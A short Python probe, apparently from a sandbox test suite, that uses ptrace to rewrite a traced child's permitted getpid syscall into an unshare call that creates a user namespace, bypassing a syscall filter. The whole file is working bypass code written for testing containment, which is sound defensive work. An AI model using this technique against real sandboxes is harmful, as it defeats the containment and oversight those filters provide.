# Lets a tracer put another call in the place of one that the filter has let through.
# control: outside if it can
import ctypes
import os
import signal
import struct

from attack import NUMBERS, attempt, syscall
from machine import only_on_x86

only_on_x86()
TRACEME, GETREGS, SETREGS, SYSCALL_STOP, SETOPTIONS = 0, 12, 13, 24, 0x4200
RAX, RDI, ORIG_RAX = 10, 14, 15
NEW_USERS = 0x10000000


def exchanged():
    """The child asks for its number; the tracer makes that a request for a user namespace."""
    ear, mouth = os.pipe()
    child = os.fork()
    if child == 0:
        syscall("ptrace", TRACEME, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        result = syscall("getpid")
        os.write(mouth, struct.pack("q", result))
        os._exit(0)
    os.waitpid(child, 0)
    syscall("ptrace", SETOPTIONS, child, 0, 1)
    registers = (ctypes.c_ulonglong * 27)()
    changed = False
    while True:
        syscall("ptrace", SYSCALL_STOP, child, 0, 0)
        _, status = os.waitpid(child, 0)
        if os.WIFEXITED(status) or os.WIFSIGNALED(status):
            break
        if not os.WIFSTOPPED(status) or os.WSTOPSIG(status) != signal.SIGTRAP | 0x80:
            continue
        syscall("ptrace", GETREGS, child, 0, registers)
        if registers[ORIG_RAX] == NUMBERS["getpid"][0] and not changed:
            registers[ORIG_RAX] = registers[RAX] = NUMBERS["unshare"][0]
            registers[RDI] = NEW_USERS
            syscall("ptrace", SETREGS, child, 0, registers)
            changed = True
        elif changed:
            syscall("ptrace", GETREGS, child, 0, registers)
            result = ctypes.c_long(registers[RAX]).value
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
            if result < 0:
                raise OSError(-result, "refused")
            return "a user namespace"
    return None


attempt(("another call", exchanged))
